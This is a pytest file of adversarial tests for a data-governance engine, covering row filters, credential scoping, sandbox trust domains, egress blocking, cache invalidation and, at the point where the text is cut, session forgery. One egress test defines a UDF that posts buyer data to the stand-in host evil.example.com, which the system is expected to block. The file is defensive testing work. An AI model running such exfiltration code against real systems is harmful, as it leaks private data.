"""The eight security invariants from DESIGN.md §5, tested adversarially.

These tests play the attacker: each one attempts a concrete escalation the
paper's design must prevent, and asserts the system refuses or contains it.
"""

import pytest

from repro.connect import proto
from repro.connect.client import col, udf
from repro.errors import (
    EgressDenied,
    PermissionDenied,
    TrustDomainViolation,
)
from repro.sandbox import net


class TestInvariant1_NoResidualData:
    def test_filtered_rows_unreachable_through_any_surface(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        alice = standard_cluster.connect("alice")

        # SQL surface.
        assert len(alice.sql("SELECT * FROM main.sales.orders").collect()) == 2
        # DataFrame surface.
        assert len(alice.table("main.sales.orders").collect()) == 2
        # Aggregation can't count hidden rows.
        assert alice.sql("SELECT count(*) AS n FROM main.sales.orders").collect() == [(2,)]
        # A negated predicate can't flush them out.
        rows = alice.sql(
            "SELECT id FROM main.sales.orders WHERE NOT (region = 'US')"
        ).collect()
        assert rows == []

    def test_udf_cannot_observe_hidden_rows(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")

        @udf("string")
        def leak(region):
            return region

        alice = standard_cluster.connect("alice")
        rows = alice.table("main.sales.orders").select(leak(col("region"))).collect()
        assert {r[0] for r in rows} == {"US"}

    def test_join_does_not_leak_hidden_rows(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        alice = standard_cluster.connect("alice")
        rows = alice.sql(
            "SELECT a.id, b.id FROM main.sales.orders a "
            "JOIN main.sales.orders b ON a.region = b.region"
        ).collect()
        ids = {r[0] for r in rows} | {r[1] for r in rows}
        assert ids == {1, 3}


def _refuse_loops(monkeypatch):
    """The compiler refuses every loop — pipelines, policy slots and the
    commit materializer's passes alike — so everything runs through the
    interpreter, over the same plan."""
    from repro.engine.compile import KernelCompiler

    monkeypatch.setattr(KernelCompiler, "compile_pipeline_spec", lambda self, spec: None)


class TestPolicyBeforeUserCode:
    """The row filter runs before user code on every execution path.

    The filter sits in the scan's policy slot or is the first test of the
    loop above the scan, compiled or interpreted (compile refused); on each
    path no row outside the caller's filter may reach a UDF or the result,
    and both paths plan the same operators.
    """

    QUERIES = (
        # UDF stage directly above the governed scan (breaks the chain).
        "SELECT id, seen(region) AS r FROM main.sales.orders",
        # UDF above a filter->project loop.
        "SELECT id, seen(region) AS r FROM main.sales.orders WHERE amount > 5.0",
        # UDF as the predicate itself.
        "SELECT id, region FROM main.sales.orders WHERE seen(region) = region",
        # No user code: aggregate, top-k, bare scan.
        "SELECT region, count(*) AS n FROM main.sales.orders GROUP BY region",
        "SELECT id, region FROM main.sales.orders ORDER BY amount DESC LIMIT 3",
        "SELECT id, region FROM main.sales.orders",
    )

    @pytest.fixture
    def udf_inputs(self, monkeypatch):
        """Every argument column that reaches user code, recorded at the
        trusted side of the sandbox boundary: the invoke frames' arguments."""
        from repro.sandbox.subprocess_sandbox import SubprocessSandbox

        recorded = []
        invoke, invoke_many = SubprocessSandbox.invoke, SubprocessSandbox.invoke_many

        def record(arg_columns):
            recorded.extend(v for column in arg_columns for v in column)

        def recording_invoke(self, udf, arg_columns):
            record(arg_columns)
            return invoke(self, udf, arg_columns)

        def recording_invoke_many(self, calls):
            for _, _, arg_columns in calls:
                record(arg_columns)
            return invoke_many(self, calls)

        monkeypatch.setattr(SubprocessSandbox, "invoke", recording_invoke)
        monkeypatch.setattr(SubprocessSandbox, "invoke_many", recording_invoke_many)
        return recorded

    @pytest.mark.parametrize("leg", ["default", "compile-refused"])
    def test_no_hidden_row_reaches_user_code_or_result(
        self, leg, workspace, udf_inputs, monkeypatch
    ):
        cluster = workspace.create_standard_cluster(name=leg)
        try:
            admin = cluster.connect("admin")
            admin.sql(
                "CREATE TABLE main.sales.orders "
                "(id int, region string, amount float, buyer string)"
            )
            admin.sql(
                "INSERT INTO main.sales.orders VALUES "
                "(1,'US',10.0,'p1'),(2,'EU',20.0,'p2'),"
                "(3,'US',30.0,'p3'),(4,'APAC',40.0,'p4'),(5,NULL,50.0,'p5')"
            )
            admin.sql("GRANT USE CATALOG ON main TO analysts")
            admin.sql("GRANT USE SCHEMA ON main.sales TO analysts")
            admin.sql("GRANT SELECT ON main.sales.orders TO analysts")
            admin.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
            if leg == "compile-refused":
                _refuse_loops(monkeypatch)

            @udf("string")
            def seen(region):
                return region

            alice = cluster.connect("alice")
            alice.register_udf(seen)
            misses_before = cluster.backend.kernel_cache.stats.fusion_misses
            for query in self.QUERIES:
                rows = alice.sql(query).collect()
                assert rows, query
                for row in rows:
                    assert row[0] in (1, 3, "US"), (leg, query, row)
                    assert row[1] in ("US", 2), (leg, query, row)
            assert udf_inputs and set(udf_inputs) == {"US"}
            if leg == "compile-refused":
                # The loops fell back to the interpreter, and say so.
                stats = cluster.backend.kernel_cache.stats
                assert stats.fusion_misses > misses_before
        finally:
            workspace.shutdown()

    @pytest.mark.parametrize("leg", ["default", "compile-refused"])
    def test_pushed_join_conjunct_never_sees_a_hidden_row(
        self, leg, workspace, monkeypatch
    ):
        """The join leg: a WHERE conjunct on one join input is pushed below
        the join onto that input and lands above its row filter. Its CAST
        raises on — and would quote — the hidden rows' non-numeric buyers, so
        a single evaluation on a hidden row fails the query."""
        from repro.engine.logical import Filter, Join

        cluster = workspace.create_standard_cluster(name=leg)
        try:
            admin = cluster.connect("admin")
            admin.sql(
                "CREATE TABLE main.sales.orders "
                "(id int, region string, amount float, buyer string)"
            )
            admin.sql(
                "INSERT INTO main.sales.orders VALUES "
                "(1,'US',10.0,'11'),(2,'EU',20.0,'hidden-eu'),"
                "(3,'US',30.0,'33'),(4,'APAC',40.0,'hidden-apac'),"
                "(5,NULL,50.0,'hidden-null')"
            )
            admin.sql("CREATE TABLE main.sales.regions (region string, label string)")
            admin.sql(
                "INSERT INTO main.sales.regions VALUES "
                "('US','amer'),('EU','emea'),('APAC','apj')"
            )
            admin.sql("GRANT USE CATALOG ON main TO analysts")
            admin.sql("GRANT USE SCHEMA ON main.sales TO analysts")
            admin.sql("GRANT SELECT ON main.sales.orders TO analysts")
            admin.sql("GRANT SELECT ON main.sales.regions TO analysts")
            admin.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
            if leg == "compile-refused":
                _refuse_loops(monkeypatch)
            rows = cluster.connect("alice").sql(
                "SELECT r.label, count(*) AS n, sum(o.amount) AS total "
                "FROM main.sales.orders o JOIN main.sales.regions r "
                "ON o.region = r.region "
                "WHERE CAST(o.buyer AS INT) > 0 AND r.label <> 'none' "
                "GROUP BY r.label"
            ).collect()
            assert rows == [("amer", 2, 40.0)]
            plan = cluster.backend.last_result.optimized_plan
            assert any(isinstance(n, Join) for n in plan.walk())
            assert not any(
                isinstance(n, Filter) and isinstance(n.child, Join)
                for n in plan.walk()
            ), plan.explain()
        finally:
            workspace.shutdown()

    #: Pipeline sinks whose user predicate raises on — and would quote — a
    #: hidden row of either join side: ``orders`` hides non-US rows (their
    #: buyers are not numbers), ``regions`` hides APAC (its code is not).
    #: The last two put the CAST of both sides in the join's own condition:
    #: a probe's residual, after an equality or with none (one bucket).
    SINK_QUERIES = {
        "topk": (
            "SELECT id, amount FROM main.sales.orders "
            "WHERE CAST(buyer AS INT) > 0 ORDER BY amount DESC LIMIT 2",
            [(3, 30.0), (1, 10.0)],
            "topk",
        ),
        "limit": (
            "SELECT id FROM main.sales.orders WHERE CAST(buyer AS INT) > 20 LIMIT 5",
            [(3,)],
            "limit",
        ),
        "join-probe-side": (
            "SELECT r.label, count(*) AS n FROM main.sales.orders o "
            "JOIN main.sales.regions r ON o.region = r.region "
            "WHERE CAST(o.buyer AS INT) > 0 GROUP BY r.label",
            [("amer", 2)],
            "join_probe",
        ),
        "join-build-side": (
            "SELECT o.id, r.label FROM main.sales.orders o "
            "JOIN main.sales.regions r ON o.region = r.region "
            "WHERE CAST(r.code AS INT) > 0 ORDER BY o.id DESC LIMIT 3",
            [(3, "amer"), (1, "amer")],
            "join_probe",
        ),
        "join-residual": (
            "SELECT o.id, r.label FROM main.sales.orders o "
            "JOIN main.sales.regions r ON o.region = r.region "
            "AND CAST(o.buyer AS INT) > CAST(r.code AS INT) * 20",
            [(3, "amer")],
            "join_probe",
        ),
        "join-non-equi": (
            "SELECT o.id, r.label FROM main.sales.orders o "
            "LEFT JOIN main.sales.regions r "
            "ON CAST(o.buyer AS INT) > CAST(r.code AS INT) * 15",
            [(1, None), (3, "amer"), (3, "emea")],
            "join_probe",
        ),
    }

    @pytest.mark.parametrize("shape", list(SINK_QUERIES))
    @pytest.mark.parametrize("leg", ["compiled", "compile-refused"])
    def test_sink_predicates_never_see_a_hidden_row(
        self, leg, shape, workspace, monkeypatch
    ):
        """The top-k, LIMIT and join-probe legs: the user's CAST runs inside
        the sink's loop (compiled) or through its interpreter twin (the
        compiler refused every kernel and pipeline), on either side of a
        join or in its condition, and never on a row a row filter hides."""
        cluster = workspace.create_standard_cluster(name=leg)
        try:
            admin = cluster.connect("admin")
            admin.sql(
                "CREATE TABLE main.sales.orders "
                "(id int, region string, amount float, buyer string)"
            )
            admin.sql(
                "INSERT INTO main.sales.orders VALUES "
                "(1,'US',10.0,'11'),(2,'EU',20.0,'hidden-eu'),"
                "(3,'US',30.0,'33'),(4,'APAC',40.0,'hidden-apac'),"
                "(5,NULL,50.0,'hidden-null')"
            )
            admin.sql(
                "CREATE TABLE main.sales.regions (region string, label string, code string)"
            )
            admin.sql(
                "INSERT INTO main.sales.regions VALUES "
                "('US','amer','1'),('EU','emea','2'),('APAC','apj','hidden')"
            )
            for statement in (
                "GRANT USE CATALOG ON main TO analysts",
                "GRANT USE SCHEMA ON main.sales TO analysts",
                "GRANT SELECT ON main.sales.orders TO analysts",
                "GRANT SELECT ON main.sales.regions TO analysts",
                "ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')",
                "ALTER TABLE main.sales.regions SET ROW FILTER (region <> 'APAC')",
            ):
                admin.sql(statement)
            if leg == "compile-refused":
                _refuse_loops(monkeypatch)
            stats = cluster.backend.kernel_cache.stats
            misses = stats.fusion_misses
            alice = cluster.connect("alice")
            query, expected, sink = self.SINK_QUERIES[shape]
            assert alice.sql(query).collect() == expected
            sinks = {
                span.attributes["sink"]
                for span in workspace.catalog.telemetry.spans(
                    trace_id=alice.last_trace_id, name="kernel:pipeline"
                )
            }
            if leg == "compiled":
                assert stats.compile_errors == 0 and stats.fusion_hits > 0
                assert sink in sinks
            else:
                assert stats.fusion_misses > misses and not sinks
        finally:
            workspace.shutdown()

    def test_every_query_plans_alike_with_and_without_the_compiler(
        self, workspace, monkeypatch
    ):
        """One plan shape: every query above — UDF stages, sinks, both join
        sides — plans the same operators and loops on a compiled cluster and
        on an ``engine_compile=False`` one, and returns the same rows."""
        from repro.engine.executor import QueryEngine
        from tests.oracles import plan_shape

        planned = []
        plan_physical = QueryEngine.plan_physical

        def recording(self, optimized):
            operator = plan_physical(self, optimized)
            planned.append(plan_shape(operator))
            return operator

        monkeypatch.setattr(QueryEngine, "plan_physical", recording)
        clusters = [
            workspace.create_standard_cluster(name="compiled"),
            workspace.create_standard_cluster(name="interpreted", engine_compile=False),
        ]
        try:
            admin = clusters[0].connect("admin")
            for statement in (
                "CREATE TABLE main.sales.orders "
                "(id int, region string, amount float, buyer string)",
                "INSERT INTO main.sales.orders VALUES "
                "(1,'US',10.0,'11'),(2,'EU',20.0,'hidden-eu'),"
                "(3,'US',30.0,'33'),(4,'APAC',40.0,'hidden-apac'),"
                "(5,NULL,50.0,'hidden-null')",
                "CREATE TABLE main.sales.regions (region string, label string, code string)",
                "INSERT INTO main.sales.regions VALUES "
                "('US','amer','1'),('EU','emea','2'),('APAC','apj','hidden')",
                "GRANT USE CATALOG ON main TO analysts",
                "GRANT USE SCHEMA ON main.sales TO analysts",
                "GRANT SELECT ON main.sales.orders TO analysts",
                "GRANT SELECT ON main.sales.regions TO analysts",
                "ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')",
                "ALTER TABLE main.sales.regions SET ROW FILTER (region <> 'APAC')",
            ):
                admin.sql(statement)

            @udf("string")
            def seen(region):
                return region

            sessions = [cluster.connect("alice") for cluster in clusters]
            for session in sessions:
                session.register_udf(seen)
            queries = self.QUERIES + tuple(q for q, _, _ in self.SINK_QUERIES.values())
            for query in queries:
                planned.clear()
                rows = [session.sql(query).collect() for session in sessions]
                assert rows[0] == rows[1], query
                assert len(planned) == 2 and planned[0] == planned[1], (query, planned)
        finally:
            workspace.shutdown()

    def test_default_configuration_never_interprets_a_scan_filter(
        self, workspace, standard_cluster, admin_client, monkeypatch
    ):
        """With a compiler configured, the policy predicate runs in generated
        code under a loop *and* in a bare scan's policy slot: no predicate
        node's interpreted ``eval`` is entered while queries run."""
        from repro.engine import expressions as ex

        admin_client.sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER "
            "(region IN ('US', 'EU') AND is_account_group_member('analysts'))"
        )
        calls = []
        for node_type in (
            ex.BooleanOp, ex.Comparison, ex.InList, ex.IsAccountGroupMember
        ):
            original = node_type.eval

            def counting(self, batch, ctx, _original=original):
                calls.append(type(self).__name__)
                return _original(self, batch, ctx)

            monkeypatch.setattr(node_type, "eval", counting)

        @udf("string")
        def seen(region):
            return region

        alice = standard_cluster.connect("alice")
        alice.register_udf(seen)
        assert alice.sql(
            "SELECT region, count(*) AS n FROM main.sales.orders "
            "WHERE amount > 5.0 GROUP BY region ORDER BY region"
        ).collect() == [("EU", 1), ("US", 2)]
        assert len(alice.sql("SELECT * FROM main.sales.orders").collect()) == 3
        assert alice.sql(
            "SELECT seen(region) AS r FROM main.sales.orders"
        ).collect() == [("US",), ("EU",), ("US",)]
        assert calls == []

    @pytest.mark.parametrize("files", ["one", "several"])
    @pytest.mark.parametrize("leg", ["compiled", "compile-refused"])
    def test_write_expressions_see_only_rows_the_row_filter_admits(
        self, leg, files, workspace, standard_cluster, admin_client, monkeypatch
    ):
        """The write leg: commit materialization runs the row filter first
        and WHERE / SET / MERGE ON / matched assignments only over the rows
        it admits. A recording node (opaque to the compiler, so it sees
        exactly the batch the materializer hands it) proves zero evaluations
        on hidden rows — through kernels and through the interpreter.

        ``several``: UPDATE / DELETE only, over a table whose extra files
        are all above the fold size, so the commit probes files it then
        leaves alone — the probe, too, filters before WHERE runs."""
        from repro.engine import expressions as ex
        from repro.engine.types import INT, Field, Schema
        from repro.txn.writes import TARGET_FILE_ROWS

        recorded = []

        class Recording(ex.Expression):
            def __init__(self, child):
                super().__init__((child,))
                self.dtype = child.dtype

            def with_children(self, children):
                return Recording(children[0])

            def eval(self, batch, ctx):
                values = self.children[0].eval(batch, ctx)
                recorded.extend(values)
                return values

        orders = "main.sales.orders"
        admin_client.sql(f"GRANT MODIFY ON {orders} TO analysts")
        admin_client.sql(f"ALTER TABLE {orders} SET ROW FILTER (region = 'US')")
        if leg == "compile-refused":
            _refuse_loops(monkeypatch)
        catalog = workspace.catalog
        manager = catalog.txn_manager
        alice = catalog.principals.context_for("alice")
        region = Recording(ex.col("region"))
        visible = ex.Comparison("!=", region, ex.lit("nowhere"))
        source_schema = Schema((Field("k", INT),))
        update = {"amount": ex.Arithmetic(
            "+", ex.col("amount"), ex.FunctionCall("length", (region,))
        )}

        if files == "several":
            size = TARGET_FILE_ROWS // 2 + 10
            admin = catalog.principals.context_for("admin")
            for first, regions in ((100, ["EU"]), (3000, ["US", "APAC"]), (6000, ["APAC"])):
                catalog.write_table(orders, {
                    "id": list(range(first, first + size)),
                    "region": [regions[i % len(regions)] for i in range(size)],
                    "amount": [1.0] * size,
                    "buyer": ["b"] * size,
                }, admin)
            storage = catalog.table_storage(catalog.get_table(orders))
            before = storage.snapshot(catalog._service_credential).files

            def body(txn):
                txn.update(orders, update, visible)
                txn.delete(orders, ex.Comparison("=", region, ex.lit("EU")))

            manager.run(alice, body)
            assert recorded and set(recorded) == {"US"}
            after = storage.snapshot(catalog._service_credential).files
            # The EU-only and APAC-only files were probed and kept as they are.
            assert set(before) - set(after) == {before[0], before[2]}
            assert {before[1], before[3]} <= set(after)
            admin_client.sql(f"ALTER TABLE {orders} DROP ROW FILTER")
            assert sorted(admin_client.sql(
                f"SELECT region, count(*), sum(amount) FROM {orders} GROUP BY region"
            ).collect()) == [
                ("APAC", 1 + size + size // 2, 40.0 + size + size // 2),
                ("EU", 1 + size, 20.0 + size),
                ("US", 2 + size // 2, 44.0 + 3.0 * (size // 2)),
            ]
            return

        def body(txn):
            txn.update(orders, update, visible)
            txn.merge(
                orders, "t", source_schema, {"k": [1, 2, 3, 4]}, "s",
                ex.BooleanOp(
                    "AND",
                    ex.Comparison("=", ex.col("t.id"), ex.col("s.k")),
                    ex.Comparison("!=", Recording(ex.col("t.region")), ex.lit("x")),
                ),
                {"buyer": Recording(ex.col("t.region"))}, False, None,
            )
            txn.merge(
                orders, "t", source_schema, {"k": [100]}, "s",
                ex.Comparison(
                    "<", ex.FunctionCall("length", (Recording(ex.col("t.region")),)),
                    ex.col("s.k"),
                ),
                {"buyer": ex.lit("loop")}, False, None,
            )
            txn.delete(orders, ex.Comparison("=", region, ex.lit("EU")))

        manager.run(alice, body)
        assert recorded and set(recorded) == {"US"}
        admin_client.sql(f"ALTER TABLE {orders} DROP ROW FILTER")
        assert sorted(admin_client.sql(f"SELECT * FROM {orders}").collect()) == [
            (1, "US", 12.0, "loop"), (2, "EU", 20.0, "p2"),
            (3, "US", 32.0, "loop"), (4, "APAC", 40.0, "p4"),
        ]
        cache = manager.compiler.cache.stats
        assert (cache.hits + cache.misses > 0) == (leg == "compiled")

    @pytest.mark.parametrize("leg", ["compiled", "compile-refused"])
    def test_compiled_write_probe_never_sees_a_hidden_row(
        self, leg, workspace, admin_client, standard_cluster, monkeypatch
    ):
        """The compiled leg of the multi-file probe. The WHERE is one the
        compiler accepts, and its CAST raises on — and would quote — the
        non-numeric text that only filter-hidden rows hold. The commit probes
        every file, rewrites the one holding a match and keeps the others;
        the UPDATE and DELETE commit, and every hidden row keeps its values.
        On the compiled leg the row filter and WHERE ran as one compiled
        loop; with compilation refused, conjunct by conjunct."""
        from repro.engine import expressions as ex
        from repro.engine.compile import KernelCompiler
        from repro.txn.writes import TARGET_FILE_ROWS

        orders = "main.sales.orders"
        catalog = workspace.catalog
        admin_client.sql(f"UPDATE {orders} SET buyer = '0' WHERE region = 'US'")
        size = TARGET_FILE_ROWS // 2 + 10  # above the fold: never folded

        def write(first, regions, visible_buyer):
            region = [regions[i % len(regions)] for i in range(size)]
            catalog.write_table(orders, {
                "id": list(range(first, first + size)),
                "region": region,
                "amount": [1.0] * size,
                "buyer": [
                    visible_buyer(i) if r == "US" else f"hidden-{first + i}"
                    for i, r in enumerate(region)
                ],
            }, catalog.principals.context_for("admin"))

        write(100, ["EU"], str)  # hidden rows only
        write(3000, ["US", "APAC"], lambda i: str(i % 5))  # the matches
        write(6000, ["US"], lambda i: "7")  # visible rows, no match
        hidden = f"SELECT * FROM {orders} WHERE region <> 'US'"
        hidden_before = sorted(admin_client.sql(hidden).collect())
        storage = catalog.table_storage(catalog.get_table(orders))
        before = storage.snapshot(catalog._service_credential).files
        admin_client.sql(f"GRANT MODIFY ON {orders} TO analysts")
        admin_client.sql(f"ALTER TABLE {orders} SET ROW FILTER (region = 'US')")

        fused = []
        if leg == "compile-refused":
            _refuse_loops(monkeypatch)
        else:
            original = KernelCompiler.compile_pipeline_spec

            def spying(self, spec):
                kernel = original(self, spec)
                if kernel is not None and spec.condition is not None and any(
                    isinstance(node, ex.Cast) for node in spec.condition.walk()
                ):
                    fused.append(kernel)
                return kernel

            monkeypatch.setattr(KernelCompiler, "compile_pipeline_spec", spying)

        cache = catalog.txn_manager.compiler.cache.stats
        lookups = cache.hits + cache.misses
        alice = standard_cluster.connect("alice")
        alice.sql("BEGIN")
        alice.sql(f"UPDATE {orders} SET amount = 2.0 WHERE CAST(buyer AS INT) = 1")
        alice.sql(f"DELETE FROM {orders} WHERE CAST(buyer AS INT) = 3")
        alice.sql("COMMIT")

        after = storage.snapshot(catalog._service_credential).files
        # The fixture's small file is folded; the US/APAC file held the
        # matches; the EU-only and US-only files were probed and kept.
        assert set(before) - set(after) == {before[0], before[2]}
        assert {before[1], before[3]} <= set(after)
        admin_client.sql(f"ALTER TABLE {orders} DROP ROW FILTER")
        assert sorted(admin_client.sql(hidden).collect()) == hidden_before
        assert sorted(admin_client.sql(
            f"SELECT buyer, count(*), sum(amount) FROM {orders} "
            "WHERE region = 'US' GROUP BY buyer"
        ).collect()) == [
            ("0", 2 + 104, 40.0 + 104), ("1", 103, 206.0), ("2", 104, 104.0),
            ("4", 103, 103.0), ("7", size, float(size)),
        ]
        assert bool(fused) == (leg == "compiled")
        assert (cache.hits + cache.misses > lookups) == (leg == "compiled")


class TestInvariant2_SecureViewBarrier:
    def test_udf_filter_evaluates_after_policy(
        self, workspace, standard_cluster, admin_client
    ):
        """A UDF used as a WHERE predicate sees only policy-visible rows."""
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")

        @udf("bool")
        def probe(region):
            # If pushdown were broken, this would return True for EU/APAC
            # rows and the query would emit them.
            return True

        alice = standard_cluster.connect("alice")
        rows = alice.table("main.sales.orders").filter(probe(col("region"))).collect()
        assert len(rows) == 2


class TestInvariant3_CredentialScoping:
    def test_vended_credential_bounded_to_table_prefix(
        self, workspace, standard_cluster, admin_client
    ):
        cat = workspace.catalog
        ctx = cat.principals.context_for("alice")
        cred = cat.vend_credential(
            ctx, "main.sales.orders", {"READ", "LIST"}, standard_cluster.backend.caps
        )
        table = cat.get_table("main.sales.orders")
        assert cred.authorizes(f"{table.storage_root}/data/f", "READ", 0)
        # Sibling table's prefix: out of scope.
        assert not cred.authorizes(
            "s3://unity-managed/main/sales/other/data/f", "READ", 0
        )
        # Write op: out of scope.
        assert not cred.authorizes(f"{table.storage_root}/data/f", "WRITE", 0)

    def test_credential_carries_identity_for_audit(
        self, workspace, standard_cluster, alice_client
    ):
        alice_client.table("main.sales.orders").collect()
        vends = workspace.catalog.audit.events(action="catalog.vend_credential")
        assert vends and vends[-1].principal == "alice"


class TestInvariant4_TrustDomains:
    def test_cataloged_udfs_of_different_owners_never_share_sandbox(
        self, workspace, standard_cluster, admin_client
    ):
        from repro.engine.udf import udf as engine_udf
        from repro.connect.client import catalog_function

        cat = workspace.catalog

        @engine_udf("float")
        def plus1(x):
            return x + 1.0

        @engine_udf("float")
        def plus2(x):
            return x + 2.0

        cat.create_function("main.sales.by_admin", plus1, owner="admin")
        cat.create_function("main.sales.by_carol", plus2, owner="carol")
        for fn in ("main.sales.by_admin", "main.sales.by_carol"):
            cat.grant("EXECUTE", fn, "analysts")

        alice = standard_cluster.connect("alice")
        alice.table("main.sales.orders").select(
            catalog_function("main.sales.by_admin")(col("amount")).alias("a"),
            catalog_function("main.sales.by_carol")(col("amount")).alias("b"),
        ).collect()
        # Two distinct owners → two sandboxes in alice's session.
        backend = standard_cluster.backend
        session_sandboxes = backend.cluster_manager.stats.created
        assert session_sandboxes >= 2

    def test_sandbox_rejects_foreign_domain_directly(self):
        from repro.engine.udf import udf as engine_udf
        from repro.sandbox.subprocess_sandbox import SubprocessSandbox

        @engine_udf("int")
        def f(x):
            return x

        sandbox = SubprocessSandbox("alice")
        try:
            with pytest.raises(TrustDomainViolation):
                sandbox.invoke(f.with_owner("eve"), [[1]])
        finally:
            sandbox.close()


class TestInvariant5_VersionCompatibility:
    @pytest.mark.parametrize("version", range(1, proto.PROTOCOL_VERSION + 1))
    def test_all_supported_client_versions_execute(
        self, standard_cluster, admin_client, version
    ):
        client = standard_cluster.connect("alice", client_version=version)
        assert client.sql("SELECT count(*) AS n FROM main.sales.orders").collect() == [(4,)]

    def test_unknown_optional_fields_ignored(self, standard_cluster, admin_client):
        client = standard_cluster.connect("alice")
        relation = {
            "@type": "relation.read",
            "table": "main.sales.orders",
            "hint_from_the_future": {"v": 99},
        }
        schema, columns = client.execute_relation(relation)
        assert len(columns[0]) == 4


class TestInvariant6_EfgacEquivalence:
    def test_dedicated_equals_standard_under_policies(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER "
            "(region = 'US' OR is_account_group_member('hr'))"
        )
        admin_client.sql(
            "ALTER TABLE main.sales.orders ALTER COLUMN buyer SET MASK ('***')"
        )
        ded = workspace.create_dedicated_cluster(assigned_user="alice", name="ded-eq")
        query = "SELECT id, buyer FROM main.sales.orders ORDER BY id"
        std_rows = standard_cluster.connect("alice").sql(query).collect()
        ded_rows = ded.connect("alice").sql(query).collect()
        assert std_rows == ded_rows == [(1, "***"), (3, "***")]


class TestInvariant7_DownScoping:
    def test_effective_rights_are_exactly_the_groups(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql("GRANT MODIFY ON main.sales.orders TO carol")
        ded = workspace.create_dedicated_cluster(assigned_group="analysts", name="ds")
        carol = ded.connect("carol")
        # carol's personal MODIFY is suppressed on the group cluster.
        with pytest.raises(PermissionDenied):
            carol.sql("INSERT INTO main.sales.orders VALUES (8,'US',1.0,'x')")
        # But on a standard cluster her full identity applies.
        carol_std = standard_cluster.connect("carol")
        carol_std.sql("INSERT INTO main.sales.orders VALUES (8,'US',1.0,'x')")


class TestInvariant8_Egress:
    def test_exfiltration_blocked_and_surfaced(
        self, workspace, standard_cluster, admin_client
    ):
        net.register_service("evil.example.com", lambda p, b: "ok")
        try:

            @udf("string")
            def exfil(buyer):
                net.http_post("http://evil.example.com/drop", payload=buyer)
                return "sent"

            alice = standard_cluster.connect("alice")
            with pytest.raises(EgressDenied):
                alice.table("main.sales.orders").select(exfil(col("buyer"))).collect()
        finally:
            net.unregister_service("evil.example.com")


class TestCacheInvalidation:
    """Policy changes must invalidate every enforcement cache, immediately.

    The secure-plan and credential caches key on the catalog policy epoch;
    these tests change governance state between repeated queries and assert
    no stale plan or credential ever serves data the new policy forbids.
    """

    def test_row_filter_change_invalidates_cached_plan(
        self, workspace, standard_cluster, admin_client
    ):
        cache = standard_cluster.backend.plan_cache
        alice = standard_cluster.connect("alice")
        query = "SELECT id FROM main.sales.orders ORDER BY id"
        assert alice.sql(query).collect() == [(1,), (2,), (3,), (4,)]
        hits_before = cache.stats.hits
        alice.sql(query).collect()
        assert cache.stats.hits == hits_before + 1, "repeat must be cached"

        admin_client.sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')"
        )
        stale_before = cache.stats.stale_epoch_misses
        assert alice.sql(query).collect() == [(1,), (3,)], (
            "a cached pre-filter plan leaked hidden rows"
        )
        assert cache.stats.stale_epoch_misses == stale_before + 1

        # Dropping the filter is itself a policy change: hard miss again.
        admin_client.sql("ALTER TABLE main.sales.orders DROP ROW FILTER")
        assert alice.sql(query).collect() == [(1,), (2,), (3,), (4,)]

    def test_column_mask_change_invalidates_cached_plan(
        self, workspace, standard_cluster, admin_client
    ):
        alice = standard_cluster.connect("alice")
        query = "SELECT buyer FROM main.sales.orders ORDER BY id"
        alice.sql(query).collect()
        alice.sql(query).collect()  # primed in the plan cache
        admin_client.sql(
            "ALTER TABLE main.sales.orders ALTER COLUMN buyer SET MASK ('***')"
        )
        rows = alice.sql(query).collect()
        assert {r[0] for r in rows} == {"***"}, "cached plan bypassed the mask"

    def test_revoke_denies_despite_cached_plan_and_credential(
        self, workspace, standard_cluster, admin_client
    ):
        alice = standard_cluster.connect("alice")
        query = "SELECT id FROM main.sales.orders"
        alice.sql(query).collect()
        alice.sql(query).collect()  # plan + credential both cached
        admin_client.sql("REVOKE SELECT ON main.sales.orders FROM analysts")
        with pytest.raises(PermissionDenied):
            alice.sql(query).collect()
        # Re-granting restores access (another epoch bump, fresh resolution).
        admin_client.sql("GRANT SELECT ON main.sales.orders TO analysts")
        assert len(alice.sql(query).collect()) == 4

    def test_grant_revoke_invalidates_cached_credential(
        self, workspace, standard_cluster, admin_client
    ):
        source = standard_cluster.backend.data_source
        alice = standard_cluster.connect("alice")
        alice.sql("SELECT id FROM main.sales.orders").collect()
        stale_before = source.credential_cache.stats.stale_epoch_misses
        vended_before = source.stats.credentials_vended
        admin_client.sql("GRANT SELECT ON main.sales.orders TO carol")
        alice.sql("SELECT region FROM main.sales.orders").collect()
        assert source.credential_cache.stats.stale_epoch_misses == stale_before + 1
        assert source.stats.credentials_vended == vended_before + 1, (
            "the post-grant scan must re-vend (re-running the privilege check)"
        )

    def test_view_redefinition_invalidates_cached_plan(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql(
            "CREATE VIEW main.sales.us_orders AS "
            "SELECT id FROM main.sales.orders WHERE region = 'US'"
        )
        admin_client.sql("GRANT SELECT ON main.sales.us_orders TO analysts")
        alice = standard_cluster.connect("alice")
        query = "SELECT id FROM main.sales.us_orders ORDER BY id"
        assert alice.sql(query).collect() == [(1,), (3,)]
        assert alice.sql(query).collect() == [(1,), (3,)]
        admin_client.sql("DROP VIEW main.sales.us_orders")
        admin_client.sql(
            "CREATE VIEW main.sales.us_orders AS "
            "SELECT id FROM main.sales.orders WHERE region = 'EU'"
        )
        admin_client.sql("GRANT SELECT ON main.sales.us_orders TO analysts")
        assert alice.sql(query).collect() == [(2,)], (
            "a cached plan served the dropped view definition"
        )


class TestSessionHijacking:
    def test_session_of_other_user_unusable(self, standard_cluster, admin_client):
        alice = standard_cluster.connect("alice")
        # bob forges requests against alice's session id.
        bob = standard_cluster.connect("bob")
        forged = {
            "session_id": alice.session_id,
            "user": "bob",
            "client_version": 4,
